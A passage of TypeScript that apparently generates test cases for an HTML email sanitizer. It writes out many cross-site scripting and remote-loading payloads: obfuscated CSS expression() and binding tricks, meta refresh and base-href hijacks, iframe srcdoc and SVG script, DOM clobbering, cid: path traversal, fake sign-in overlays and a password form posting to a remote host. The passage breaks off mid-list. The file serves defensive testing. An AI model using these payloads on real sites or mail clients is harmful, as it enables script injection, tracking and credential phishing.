      '<style>@import \\75 rl(http://remote.invalid/import-escaped-url.css);</style><p>x</p>',
    ],
    [
      'head',
      '@import in the head',
      '<html><head><style>@import "//remote.invalid/import-head.css";</style></head><body>x</body></html>',
    ],
    ['gateway', '@import from the gateway', '<style>@import "/api/session";</style><p>x</p>'],
    [
      'style-attribute',
      '@import in a style attribute',
      '<p style="@import \'http://remote.invalid/import-attr.css\'; color:red">x</p>',
    ],
  ];
  for (const [slug, title, html] of imports) add('css', `import.${slug}`, title, html);

  const bindings: [string, string, string][] = [
    [
      'expression-comment',
      'expression() split by a comment',
      '<div style="width:expr/**/ession(alert(1))">x</div>',
    ],
    [
      'expression-upper',
      'EXPRESSION() in upper case',
      '<div style="height:EXPRESSION(top.__xss=1)">x</div>',
    ],
    [
      'expression-backslash',
      'expression() with a backslash',
      '<div style="width:ex\\pression(alert(1))">x</div>',
    ],
    [
      'expression-sheet',
      'expression() in a sheet',
      '<style>p{width:expression(alert(1))}</style><p>x</p>',
    ],
    [
      'behavior-remote',
      'behavior url() to a remote HTC',
      '<div style="behavior:url(http://remote.invalid/x.htc)">x</div>',
    ],
    [
      'ms-behavior',
      '-ms-behavior',
      '<div style="-ms-behavior:url(http://remote.invalid/ms.htc)">x</div>',
    ],
    [
      'behavior-sheet',
      'behavior in a sheet',
      '<style>p{behavior:url(//remote.invalid/sheet.htc)}</style><p>x</p>',
    ],
    [
      'moz-binding-remote',
      '-moz-binding to a remote XBL',
      '<div style="-moz-binding:url(http://remote.invalid/xbl.xml#x)">x</div>',
    ],
    [
      'moz-binding-escaped',
      'escaped -moz-binding',
      '<div style="-moz-b\\69nding:url(http://remote.invalid/xbl-esc.xml#x)">x</div>',
    ],
    [
      'moz-binding-sheet',
      '-moz-binding in a sheet',
      '<style>p{-moz-binding:url(data:text/xml;base64,PD94bWw+#x) , url(http://remote.invalid/xbl-sheet.xml#x)}</style><p>x</p>',
    ],
    [
      'javascript-list-style',
      'javascript: in list-style-image',
      '<ul><li style="list-style-image:url(\'javascript:alert(1)\')">x</li></ul>',
    ],
    [
      'javascript-cursor',
      'javascript: in cursor',
      '<div style="cursor:url(javascript:alert(1)),auto">x</div>',
    ],
    [
      'vbscript-content',
      'vbscript: in content',
      '<style>p::after{content:url(vbscript:alert(1))}</style><p>x</p>',
    ],
  ];
  for (const [slug, title, html] of bindings) add('css', `binding.${slug}`, title, html);

  // url() in every property that takes one, in a style attribute and in a sheet.
  const properties: [string, string, string?][] = [
    ['background', 'url(@)'],
    ['background-image', 'url(@)'],
    ['border-image', 'url(@) 30 round', 'border:5px solid'],
    ['border-image-source', 'url(@)', 'border:5px solid'],
    ['-webkit-border-image', 'url(@) 30 round', 'border:5px solid'],
    ['list-style', 'url(@) inside', 'display:list-item'],
    ['list-style-image', 'url(@)', 'display:list-item'],
    ['content', 'url(@)'],
    ['cursor', 'url(@), auto'],
    ['mask', 'url(@)'],
    ['mask-image', 'url(@)'],
    ['-webkit-mask', 'url(@)'],
    ['-webkit-mask-image', 'url(@)'],
    ['-webkit-mask-box-image', 'url(@) 10'],
    ['mask-border-source', 'url(@)'],
    ['shape-outside', 'url(@)', 'float:left'],
    ['filter', 'url(@#f)'],
    ['backdrop-filter', 'url(@#f)'],
    ['clip-path', 'url(@#c)'],
    ['offset-path', 'url(@#p)'],
    ['marker', 'url(@#m)'],
    ['fill', 'url(@#a)'],
    ['stroke', 'url(@#a)'],
    ['-webkit-box-reflect', 'below 0 url(@)'],
  ];
  // Already in tidings.json as style attributes.
  const handWritten = new Set([
    'background',
    'background-image',
    'border-image',
    'list-style-image',
    'cursor',
    'content',
    'mask-image',
    'shape-outside',
    'filter',
    '-webkit-box-reflect',
  ]);
  for (const [property, value, extra] of properties) {
    const attribute = `${extra ? `${extra};` : ''}${property}:${value.replace('@', remote(`css-attr-${property}.png`))}`;
    const rule = `${extra ? `${extra};` : ''}${property}:${value.replace('@', remote(`css-sheet-${property}.png`))}`;
    if (!handWritten.has(property)) {
      add(
        'css',
        `attr.${property}`,
        `${property} url() in a style attribute`,
        `<div style="${attribute}">x</div>`,
      );
    }
    add(
      'css',
      `sheet.${property}`,
      `${property} url() in a sheet`,
      `<style>.t{${rule}}</style><div class="t">x</div>`,
    );
  }

  const shorthands: [string, string, string][] = [
    [
      'background-layers',
      'background with two layers',
      '<div style="background:url(#a), url(http://remote.invalid/layers.png) no-repeat">x</div>',
    ],
    [
      'background-gradient-layer',
      'background gradient then remote',
      '<div style="background:linear-gradient(red,blue), url(//remote.invalid/gradient-layer.png)">x</div>',
    ],
    [
      'background-important',
      'background !important',
      '<div style="background:url(http://remote.invalid/important.png) !important">x</div>',
    ],
    [
      'mask-shorthand',
      'mask shorthand with mode',
      '<div style="mask:url(http://remote.invalid/mask-mode.png) luminance no-repeat">x</div>',
    ],
    [
      'border-image-full',
      'border-image with all parts',
      '<div style="border:4px solid;border-image:url(http://remote.invalid/border-full.png) 30 / 1 / 0 stretch">x</div>',
    ],
    [
      'font-shorthand-then-url',
      'declarations after an invalid one',
      '<div style="font:;background:url(http://remote.invalid/after-invalid.png)">x</div>',
    ],
    [
      'duplicate-property',
      'the same property twice',
      '<div style="background:red;background:url(http://remote.invalid/duplicate.png)">x</div>',
    ],
    [
      'escaped-property',
      'escaped property name',
      '<div style="b\\61 ckground:url(http://remote.invalid/escaped-property.png)">x</div>',
    ],
    [
      'url-escaped-chars',
      'url with escaped letters',
      '<div style="background:url(\\68 ttp://remote.invalid/escaped-letters.png)">x</div>',
    ],
    [
      'url-entities',
      'url() written with references',
      '<div style="background:&#117;&#114;&#108;(http://remote.invalid/entities.png)">x</div>',
    ],
    [
      'light-dark',
      'light-dark() with url()',
      '<div style="background-image:light-dark(url(http://remote.invalid/light.png), none)">x</div>',
    ],
    [
      'symbols',
      'symbols() with an image',
      '<ol style="list-style:symbols(cyclic url(http://remote.invalid/symbols.png))"><li>x</li></ol>',
    ],
  ];
  for (const [slug, title, html] of shorthands) add('css', `shorthand.${slug}`, title, html);

  const custom: [string, string, string][] = [
    [
      'inherited',
      'custom property set on a parent, used by a child',
      '<div style="--u:url(http://remote.invalid/var-parent.png)"><p style="background-image:var(--u)">x</p></div>',
    ],
    [
      'fallback',
      'url() in a var() fallback',
      '<div style="background-image:var(--none, url(http://remote.invalid/var-fallback.png))">x</div>',
    ],
    [
      'nested',
      'nested var()',
      '<div style="--a:url(http://remote.invalid/var-nested.png);--b:var(--a);background-image:var(--b)">x</div>',
    ],
    [
      'root-sheet',
      'custom property on :root in a sheet',
      '<style>:root{--u:url(http://remote.invalid/var-root.png)} p{background-image:var(--u)}</style><p>x</p>',
    ],
    [
      'image-set',
      'custom property holding image-set()',
      '<div style="--i:image-set(\'http://remote.invalid/var-image-set.png\' 1x);background-image:var(--i)">x</div>',
    ],
    [
      'escaped-name',
      'escaped custom property name',
      '<div style="--\\75:url(http://remote.invalid/var-escaped-name.png);background-image:var(--\\75)">x</div>',
    ],
    [
      'body-style',
      'custom property on the body',
      '<body style="--u:url(http://remote.invalid/var-body.png)"><p style="background:var(--u)">x</p></body>',
    ],
    [
      'important',
      'custom property !important',
      '<div style="--u:url(http://remote.invalid/var-important.png) !important;list-style-image:var(--u)">x</div>',
    ],
  ];
  for (const [slug, title, html] of custom) add('css', `custom-property.${slug}`, title, html);

  const fonts: [string, string, string][] = [
    [
      'local-then-remote',
      'local() then a remote font',
      '<style>@font-face{font-family:f;src:local(Arial),url(http://remote.invalid/font-local.woff2)} p{font-family:f}</style><p>x</p>',
    ],
    [
      'format',
      'remote font with format()',
      '<style>@font-face{font-family:f;src:url(//remote.invalid/font-format.woff2) format("woff2")} p{font-family:f}</style><p>x</p>',
    ],
    [
      'in-media',
      '@font-face inside @media',
      '<style>@media all{@font-face{font-family:f;src:url(http://remote.invalid/font-media.woff)}} p{font-family:f}</style><p>x</p>',
    ],
    [
      'in-supports',
      '@font-face inside @supports',
      '<style>@supports (display:block){@font-face{font-family:f;src:url(http://remote.invalid/font-supports.woff)}} p{font-family:f}</style><p>x</p>',
    ],
    [
      'data-then-remote',
      'data: font then a remote one',
      '<style>@font-face{font-family:f;src:url(data:font/woff2;base64,AAAA),url(http://remote.invalid/font-second.woff)} p{font-family:f}</style><p>x</p>',
    ],
    [
      'escaped-url',
      '@font-face with an escaped url()',
      '<style>@font-face{font-family:f;src:\\75 rl(http://remote.invalid/font-escaped.woff)} p{font-family:f}</style><p>x</p>',
    ],
    [
      'unicode-range',
      '@font-face with unicode-range',
      '<style>@font-face{font-family:f;src:url(http://remote.invalid/font-range.woff);unicode-range:U+0-10FFFF} p{font-family:f}</style><p>x</p>',
    ],
    [
      'head',
      '@font-face in the head',
      '<html><head><style>@font-face{font-family:f;src:url(http://remote.invalid/font-head.woff)}</style></head><body style="font-family:f">x</body></html>',
    ],
    [
      'font-palette',
      '@font-palette-values with a remote font',
      '<style>@font-palette-values --p{font-family:f;base-palette:1}@font-face{font-family:f;src:url(http://remote.invalid/font-palette.woff)} p{font-family:f;font-palette:--p}</style><p>x</p>',
    ],
  ];
  for (const [slug, title, html] of fonts) add('css', `font-face.${slug}`, title, html);

  const images: [string, string, string][] = [
    [
      'image-set-url',
      'image-set(url())',
      '<div style="background-image:image-set(url(http://remote.invalid/set-url.png) 1x)">x</div>',
    ],
    [
      'image-set-type',
      'image-set() with type()',
      "<div style=\"background-image:image-set('http://remote.invalid/set-type.png' type('image/png'))\">x</div>",
    ],
    [
      'image-set-sheet',
      'image-set() in a sheet',
      "<style>p{background-image:image-set('//remote.invalid/set-sheet.png' 2x)}</style><p>x</p>",
    ],
    [
      'image-set-content',
      'image-set() in content',
      "<style>p::before{content:image-set('http://remote.invalid/set-content.png' 1x)}</style><p>x</p>",
    ],
    [
      'image-set-list-style',
      'image-set() in list-style-image',
      '<ul style="list-style-image:image-set(\'http://remote.invalid/set-list.png\' 1x)"><li>x</li></ul>',
    ],
    [
      'image-set-escaped',
      'escaped image-set()',
      '<div style="background-image:image\\2d set(\'http://remote.invalid/set-escaped.png\' 1x)">x</div>',
    ],
    [
      'webkit-image-set-string',
      '-webkit-image-set() with a string',
      '<div style="background-image:-webkit-image-set(\'http://remote.invalid/wset-string.png\' 1x)">x</div>',
    ],
    [
      'cross-fade',
      'cross-fade()',
      '<div style="background-image:cross-fade(url(http://remote.invalid/fade-a.png), url(http://remote.invalid/fade-b.png) 50%)">x</div>',
    ],
    [
      'webkit-cross-fade',
      '-webkit-cross-fade()',
      '<div style="background-image:-webkit-cross-fade(url(http://remote.invalid/wfade.png), url(#a), 50%)">x</div>',
    ],
    [
      'image-function',
      'image()',
      '<div style="background-image:image(\'http://remote.invalid/image-fn.png\')">x</div>',
    ],
    [
      'element',
      'element()',
      '<div style="background-image:element(#x)"><img id="x" src="http://remote.invalid/element.png"></div>',
    ],
    [
      'src-function',
      'src()',
      '<div style="background-image:src(\'http://remote.invalid/src-fn.png\')">x</div>',
    ],
    [
      'attr-url',
      'attr() as a URL',
      '<div data-u="http://remote.invalid/attr-fn.png" style="background-image:attr(data-u url)">x</div>',
    ],
  ];
  for (const [slug, title, html] of images) add('css', `image.${slug}`, title, html);

  const link = '<a href="https://remote.invalid/sign-in">Your session expired: sign in again</a>';
  const overlays: [string, string, string][] = [
    [
      'fixed-class',
      'position:fixed from a class',
      `<style>.o{position:fixed;inset:0;z-index:9999;background:#fff}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-important',
      'position:fixed !important',
      `<div style="position:fixed !important;inset:0">${link}</div>`,
    ],
    [
      'fixed-escaped-property',
      'escaped property name',
      `<div style="posit\\69on:fixed;inset:0">${link}</div>`,
    ],
    [
      'fixed-escaped-value',
      'escaped value',
      `<div style="position:f\\69xed;inset:0">${link}</div>`,
    ],
    [
      'webkit-sticky',
      'position:-webkit-sticky',
      `<div style="position:-webkit-sticky;top:0">${link}</div>`,
    ],
    [
      'fixed-media',
      'position:fixed in @media',
      `<style>@media all{.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-supports',
      'position:fixed in @supports',
      `<style>@supports (position:fixed){.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-nested',
      'position:fixed in a nested rule',
      `<style>div{&.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-layer',
      'position:fixed in @layer',
      `<style>@layer x{.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-container',
      'position:fixed in @container',
      `<style>body{container-type:inline-size}@container (min-width:1px){.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-scope',
      'position:fixed in @scope',
      `<style>@scope (body){.o{position:fixed;inset:0}}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-starting-style',
      'position:fixed in @starting-style',
      `<style>@starting-style{.o{position:fixed}}.o{position:fixed;inset:0}</style><div class="o">${link}</div>`,
    ],
    [
      'sticky-var-sheet',
      'position from var() in a sheet',
      `<style>.o{--p:sticky;position:var(--p);top:0}</style><div class="o">${link}</div>`,
    ],
    [
      'fixed-body',
      'position:fixed on the body',
      `<body style="position:fixed;inset:0">${link}</body>`,
    ],
    [
      'fixed-svg',
      'position:fixed on an svg',
      `<svg style="position:fixed;inset:0;width:100%;height:100%"><a><text y="20">x</text></a></svg>${link}`,
    ],
    [
      'fixed-keyframes',
      'position in keyframes',
      `<style>@keyframes k{from{position:fixed}to{position:fixed}}.o{animation:k 10s infinite}</style><div class="o">${link}</div>`,
    ],
  ];
  for (const [slug, title, html] of overlays) add('css', `overlay.${slug}`, title, html);

  const atRules: [string, string, string][] = [
    [
      'namespace',
      '@namespace with a remote URL',
      '<style>@namespace x url(http://remote.invalid/ns); p{background:url(http://remote.invalid/ns-bg.png)}</style><p>x</p>',
    ],
    [
      'moz-document',
      '@-moz-document',
      '<style>@-moz-document url-prefix(){p{background:url(http://remote.invalid/moz-document.png)}}</style><p>x</p>',
    ],
    [
      'document',
      '@document',
      '<style>@document url(http://remote.invalid/){p{background:url(http://remote.invalid/document-rule.png)}}</style><p>x</p>',
    ],
    [
      'position-try',
      '@position-try',
      '<style>@position-try --t{position:fixed;background:url(http://remote.invalid/position-try.png)}</style><p>x</p>',
    ],
    [
      'view-transition',
      '@view-transition',
      '<style>@view-transition{navigation:auto}p{background:url(http://remote.invalid/view-transition.png)}</style><p>x</p>',
    ],
    [
      'page-margin',
      '@page margin box',
      '<style>@page{@top-left{content:url(http://remote.invalid/page-margin.png)}}</style><p>x</p>',
    ],
    [
      'scope-to',
      '@scope ... to ...',
      '<style>@scope (div) to (span){p{background:url(http://remote.invalid/scope-to.png)}}</style><div><p>x</p></div>',
    ],
    [
      'starting-style',
      '@starting-style',
      '<style>@starting-style{p{background:url(http://remote.invalid/starting.png)}}</style><p>x</p>',
    ],
    [
      'function',
      '@function',
      '<style>@function --u(){result:url(http://remote.invalid/function.png)}p{background-image:--u()}</style><p>x</p>',
    ],
    [
      'unclosed-rule',
      'unclosed block at the end',
      '<style>p{background:url(http://remote.invalid/unclosed.png)</style><p>x</p>',
    ],
    [
      'style-in-body-end',
      'style after the body',
      '<body><p>x</p></body><style>p{background:url(http://remote.invalid/after-body.png)}</style>',
    ],
  ];
  for (const [slug, title, html] of atRules) add('css', `at-rule.${slug}`, title, html);
}

// ---------------------------------------------------------------------------------------------
// Document-level tags, embedding, forms.

function documentLevel(): void {
  const shapes: [string, string, string][] = [
    [
      'refresh-javascript',
      'meta refresh to javascript:',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ],
    [
      'refresh-quoted',
      'meta refresh with a quoted URL',
      '<meta http-equiv="refresh" content="0; URL=\'http://remote.invalid/refresh-quoted\'">',
    ],
    [
      'refresh-data',
      'meta refresh to data:text/html',
      `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64('<script>top.__xss=1</script>')}">`,
    ],
    [
      'refresh-upper',
      'META HTTP-EQUIV=REFRESH',
      '<META HTTP-EQUIV="REFRESH" CONTENT="0;URL=vbscript:alert(1)">',
    ],
    [
      'refresh-comma',
      'meta refresh with a comma',
      '<meta http-equiv="refresh" content="0,url=//remote.invalid/refresh-comma">',
    ],
    [
      'refresh-refs',
      'meta refresh with references',
      '<meta http-equiv="refresh" content="1; url=&#x6A;avascript:alert(1)">',
    ],
    [
      'refresh-in-body',
      'meta refresh deep in the body',
      '<div><p><span><meta http-equiv="refresh" content="0;url=http://remote.invalid/refresh-deep"></span></p></div>',
    ],
    [
      'refresh-in-svg',
      'meta refresh inside svg foreignObject',
      '<svg><foreignObject><meta http-equiv="refresh" content="0;url=http://remote.invalid/refresh-svg"></foreignObject></svg>',
    ],
    [
      'csp-override',
      'meta CSP trying to loosen the policy',
      '<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><img src="http://remote.invalid/csp-override.png">',
    ],
    [
      'referrer',
      'meta referrer unsafe-url',
      '<meta name="referrer" content="unsafe-url"><img src="http://remote.invalid/referrer.png">',
    ],
    [
      'set-cookie',
      'meta set-cookie',
      '<meta http-equiv="set-cookie" content="tidings=1; path=/"><img src=x onerror=alert(1)>',
    ],
    [
      'dns-prefetch-on',
      'meta turning DNS prefetch on',
      '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://remote.invalid/dns">x</a><link rel="dns-prefetch" href="//remote.invalid">',
    ],
    [
      'charset-utf7-head',
      'UTF-7 charset in the head',
      '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-7"></head><body>+ADw-img src=x onerror=alert(1)+AD4-</body></html>',
    ],
    [
      'base-javascript',
      'base href javascript:',
      '<base href="javascript:alert(1)//"><a href="x">x</a>',
    ],
    [
      'base-protocol-relative',
      'base href protocol-relative',
      '<base href="//remote.invalid/"><img src="base-pr.png">',
    ],
    [
      'base-target',
      'base target _top',
      '<base target="_top"><a href="https://remote.invalid/base-target">x</a>',
    ],
    [
      'base-css',
      'base href used by a sheet',
      '<base href="http://remote.invalid/"><style>p{background:url(base-css.png)}</style><p>x</p>',
    ],
    [
      'base-svg',
      'base href used by svg',
      '<base href="http://remote.invalid/"><svg><image href="base-svg.png" width="5" height="5"/></svg>',
    ],
    [
      'base-second',
      'a second base element',
      '<base href="https://example.test/"><base href="http://remote.invalid/"><img src="base-second.png">',
    ],
    [
      'link-icon',
      'link rel=icon',
      '<link rel="icon" href="http://remote.invalid/icon.png"><p>x</p>',
    ],
    [
      'link-preload-image',
      'link rel=preload as=image',
      '<link rel="preload" as="image" href="http://remote.invalid/preload.png"><p>x</p>',
    ],
    [
      'link-modulepreload',
      'link rel=modulepreload',
      '<link rel="modulepreload" href="http://remote.invalid/module.js"><p>x</p>',
    ],
    [
      'link-prerender',
      'link rel=prerender',
      '<link rel="prerender" href="http://remote.invalid/prerender"><p>x</p>',
    ],
    [
      'link-import',
      'link rel=import',
      '<link rel="import" href="http://remote.invalid/import.html"><p>x</p>',
    ],
    [
      'link-manifest',
      'link rel=manifest',
      '<link rel="manifest" href="http://remote.invalid/manifest.json"><p>x</p>',
    ],
    [
      'link-alternate-stylesheet',
      'link rel="alternate stylesheet"',
      '<link rel="alternate stylesheet" title="x" href="http://remote.invalid/alt.css"><p>x</p>',
    ],
    [
      'link-data-css',
      'stylesheet from data: importing a remote sheet',
      '<link rel="stylesheet" href="data:text/css,@import url(http://remote.invalid/data-import.css);"><p>x</p>',
    ],
    [
      'link-preload-fetch',
      'link rel=preload as=fetch',
      '<link rel="preload" as="fetch" crossorigin href="http://remote.invalid/preload-fetch"><p>x</p>',
    ],
    [
      'link-in-body-svg',
      'link inside svg',
      '<svg><link rel="stylesheet" href="http://remote.invalid/svg-link.css"/></svg>',
    ],
    [
      'speculationrules',
      'speculation rules script',
      '<script type="speculationrules">{"prerender":[{"source":"list","urls":["http://remote.invalid/speculate"]}]}</script><p>x</p>',
    ],
  ];
  for (const [slug, title, html] of shapes) add('document-level', slug, title, html);
}

function embedding(): void {
  const shapes: [string, string, string][] = [
    [
      'srcdoc-img',
      'iframe srcdoc with an image handler',
      '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    ],
    [
      'srcdoc-raw-svg',
      'iframe srcdoc with raw markup',
      '<iframe srcdoc="<svg onload=alert(1)>"></iframe>',
    ],
    [
      'srcdoc-refresh',
      'iframe srcdoc with a refresh',
      '<iframe srcdoc="&lt;meta http-equiv=refresh content=\'0;url=javascript:alert(1)\'&gt;"></iframe>',
    ],
    [
      'srcdoc-sandbox-scripts',
      'iframe sandbox allowing scripts',
      '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;top.__xss=1&lt;/script&gt;"></iframe>',
    ],
    [
      'srcdoc-nested',
      'iframe srcdoc in iframe srcdoc',
      '<iframe srcdoc="&lt;iframe srcdoc=\'&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;\'&gt;&lt;/iframe&gt;"></iframe>',
    ],
    [
      'srcdoc-remote-image',
      'iframe srcdoc with a remote image',
      '<iframe srcdoc="&lt;img src=http://remote.invalid/srcdoc.png&gt;"></iframe>',
    ],
    [
      'iframe-named-target',
      'link targeting a named iframe',
      '<iframe name="n" src="http://remote.invalid/named"></iframe><a href="javascript:alert(1)" target="n">x</a>',
    ],
    [
      'iframe-onload-write',
      'iframe onload writing markup',
      '<iframe src="about:blank" onload="this.contentDocument.write(\'&lt;img src=x onerror=alert(1)&gt;\')"></iframe>',
    ],
    [
      'iframe-allow',
      'iframe with permissions',
      '<iframe allow="camera *; microphone *" allowfullscreen src="http://remote.invalid/allow"></iframe>',
    ],
    [
      'frameset-onload',
      'frameset onload with a remote frame',
      '<frameset onload="alert(1)"><frame src="http://remote.invalid/frame"></frameset>',
    ],
    [
      'object-html',
      'object holding data:text/html',
      '<object type="text/html" data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>',
    ],
    [
      'object-svg',
      'object holding an SVG document with script',
      `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}"></object>`,
    ],
    [
      'embed-svg',
      'embed holding an SVG document with script',
      `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg"><script>top.__xss=1</script></svg>')}">`,
    ],
    [
      'object-params',
      'object with src and movie params',
      '<object><param name="src" value="javascript:alert(1)"><param name="movie" value="http://remote.invalid/movie.swf"></object>',
    ],
    [
      'object-fallback',
      'object fallback content',
      '<object data="http://remote.invalid/missing.pdf"><img src=x onerror=alert(1)></object>',
    ],
    [
      'portal-onload',
      'portal with onload',
      '<portal src="http://remote.invalid/portal2" onload="alert(1)"></portal>',
    ],
    [
      'fencedframe',
      'fencedframe',
      '<fencedframe src="http://remote.invalid/fenced"></fencedframe>',
    ],
    [
      'foreignobject-iframe',
      'iframe inside svg foreignObject',
      '<svg><foreignObject width="50" height="50"><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    ],
    [
      'mtext-iframe',
      'iframe inside MathML mtext',
      '<math><mtext><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></mtext></math>',
    ],
    [
      'video-sources',
      'video with remote sources and a handler',
      '<video autoplay muted><source src="http://remote.invalid/v.webm" onerror="alert(1)"><source src="//remote.invalid/v.mp4"></video>',
    ],
    [
      'audio-source',
      'audio with a remote source',
      '<audio controls autoplay><source src="http://remote.invalid/a.ogg" type="audio/ogg"></audio>',
    ],
    [
      'video-poster-src',
      'video with remote src and poster',
      '<video src="http://remote.invalid/v2.mp4" poster="http://remote.invalid/poster2.png" autoplay muted></video>',
    ],
    [
      'img-fetch-hints',
      'image with fetch hints',
      '<img src="http://remote.invalid/hints.png" loading="eager" decoding="sync" fetchpriority="high">',
    ],
    [
      'img-attributionsrc',
      'image with attributionsrc',
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" attributionsrc="http://remote.invalid/attribution">',
    ],
    [
      'a-attributionsrc',
      'link with attributionsrc',
      '<a href="https://example.test/" attributionsrc="http://remote.invalid/attribution-a">x</a>',
    ],
    ['canvas-fallback', 'canvas fallback content', '<canvas><img src=x onerror=alert(1)></canvas>'],
  ];
  for (const [slug, title, html] of shapes) add('embedding', slug, title, html);
}

function forms(): void {
  const shapes: [string, string, string][] = [
    [
      'action-javascript',
      'form action javascript: with a submit input',
      '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
    ],
    [
      'button-outside-form',
      'button outside the form it submits',
      '<form id="f"></form><button form="f" formaction="javascript:top.__xss=1">x</button>',
    ],
    [
      'input-image-formaction',
      'image input with formaction',
      '<form><input type="image" src="http://remote.invalid/form-image.png" formaction="javascript:alert(1)"></form>',
    ],
    [
      'isindex-image',
      'isindex as an image',
      '<isindex type="image" src="http://remote.invalid/isindex.png" action="javascript:alert(1)">',
    ],
    [
      'phishing',
      'password form posting to a remote host',
      '<form action="http://remote.invalid/login" method="post"><p>Confirm your password</p><input type="password" name="p" autocomplete="current-password"><button>Sign in</button></form>',
    ],
    [
      'onreset',
      'form reset handler',
      '<form action="http://remote.invalid/reset" onreset="alert(1)"><input type="reset" autofocus></form>',
    ],
    [
      'value-markup',
      'input value with markup',
      '<input value="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">',
    ],
    [
      'formtarget',
      'formtarget _top',
      '<form><button formmethod="post" formtarget="_top" formaction="http://remote.invalid/formtarget">x</button></form>',
    ],
    [
      'datalist-javascript',
      'datalist offering javascript:',
      '<input list="l" autofocus onfocus="alert(1)"><datalist id="l"><option value="javascript:alert(1)"></datalist>',
    ],
    [
      'command-dialog',
      'command/commandfor opening a dialog',
      '<button commandfor="d" command="show-modal">x</button><dialog id="d" onclose="alert(1)" oncancel="top.__xss=1">y</dialog>',
    ],
    [
      'interestfor',
      'interestfor on a link',
      '<a href="https://example.test/" interestfor="p">x</a><div id="p" popover="hint" ontoggle="alert(1)">y</div>',
    ],
    [
      'clobber-defaultview',
      'form clobbering defaultView',
      '<form name="defaultView"><input name="location" value="javascript:alert(1)"></form>',
    ],
    ['clobber-cookie', 'image named cookie', '<img name="cookie" src="x" onerror="alert(1)">'],
    [
      'clobber-body',
      'form with id body',
      '<form id="body"><input id="appendChild"></form><img src=x onerror=top.__xss=1>',
    ],
    [
      'clobber-attributes',
      'form clobbering attributes',
      '<form><input name="attributes"><input name="removeAttribute"><img src=x onerror=alert(1)></form>',
    ],
    [
      'label-for',
      'label for an autofocused input',
      '<label for="i">x</label><input id="i" onfocus="alert(1)" autofocus>',
    ],
    [
      'oninvalid',
      'invalid handler on a required input',
      '<form id="v"><input required oninvalid="alert(1)"><button>go</button></form>',
    ],
    [
      'keygen-challenge',
      'keygen with a handler',
      '<form action="http://remote.invalid/keygen"><keygen name="k" challenge="x" autofocus onfocus="alert(1)"></form>',
    ],
  ];
  for (const [slug, title, html] of shapes) add('forms', slug, title, html);
}

// ---------------------------------------------------------------------------------------------
// Mail: cid: URLs, relative and gateway-relative URLs, body attributes, Office markup; text bodies.

function mail(): void {
  const shapes: [string, string, string][] = [
    [
      'cid-percent-quote',
      'cid: with a percent-encoded quote',
      '<img src="cid:a%22%20onerror%3D%22alert(1)">',
    ],
    [
      'cid-angle-markup',
      'cid: with angle brackets and markup',
      '<img src="cid:&lt;a&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">',
    ],
    ['cid-upper', 'CID: in upper case with a handler', '<img src="CID:a" onerror="alert(1)">'],
    [
      'cid-srcset',
      'cid: image with a remote srcset',
      '<img src=" cid:a" srcset="http://remote.invalid/cid-srcset.png 1x">',
    ],
    [
      'cid-css-quote',
      'cid: in CSS closing its quote',
      "<div style=\"background:url('cid:a\\') url(http://remote.invalid/cid-quote.png')\">x</div>",
    ],
    [
      'cid-css-layers',
      'cid: then a remote layer',
      '<div style="background:url(cid:a), url(http://remote.invalid/cid-layers.png)">x</div>',
    ],
    ['cid-traversal', 'cid: with a path to the API', '<img src="cid:../../api/session">'],
    [
      'cid-encoded-traversal',
      'cid: with an encoded path',
      '<img src="cid:%2e%2e%2f%2e%2e%2fapi%2fsession">',
    ],
    [
      'cid-parameters',
      'cid: adding query parameters',
      '<img src="cid:a&amp;uid=1&amp;mailbox=Trash" onerror="alert(1)">',
    ],
    ['cid-link', 'link to a cid: URL', '<a href="cid:a" onclick="alert(1)">x</a>'],
    [
      'cid-svg-image',
      'svg image from cid: with a handler',
      '<svg><image href="cid:a" onload="alert(1)" width="5" height="5"/></svg>',
    ],
    [
      'cid-background-breakout',
      'table background cid: closing the CSS',
      '<table background="cid:a&quot;);background:url(http://remote.invalid/cid-bg.png"><tr><td>x</td></tr></table>',
    ],
    [
      'cid-body-background',
      'body background cid: closing the CSS',
      '<body background="cid:a&quot;) , url(http://remote.invalid/cid-body.png">x</body>',
    ],
    ['cid-empty', 'empty cid:', '<img src="cid:" onerror="alert(1)">'],
    ['cid-newline', 'cid: with a newline', '<img src="cid:a%0a%0dx" onerror="alert(1)">'],
    ['mid-scheme', 'mid: URL', '<img src="mid:a@example.test" onerror="alert(1)">'],
    ['relative-dot', 'relative ./api', '<img src="./api/session">'],
    ['relative-parent', 'relative ../api', '<img src="../api/session">'],
    [
      'relative-inline-route',
      'relative URL of the inline-image route',
      '<img src="/api/message/inline?mailbox=INBOX&amp;uidValidity=1&amp;uid=1&amp;cid=a">',
    ],
    [
      'relative-encoded',
      'percent-encoded API path',
      '<img src="/%61pi/session"><img src="/api%2fsession">',
    ],
    [
      'relative-backslash',
      'backslashes to the API',
      '<img src="\\api\\session" onerror="alert(1)">',
    ],
    [
      'relative-srcset',
      'relative srcset to the API',
      '<img src="api/session" srcset="/api/session 1x">',
    ],
    [
      'relative-css-sheet',
      'relative url() in a sheet',
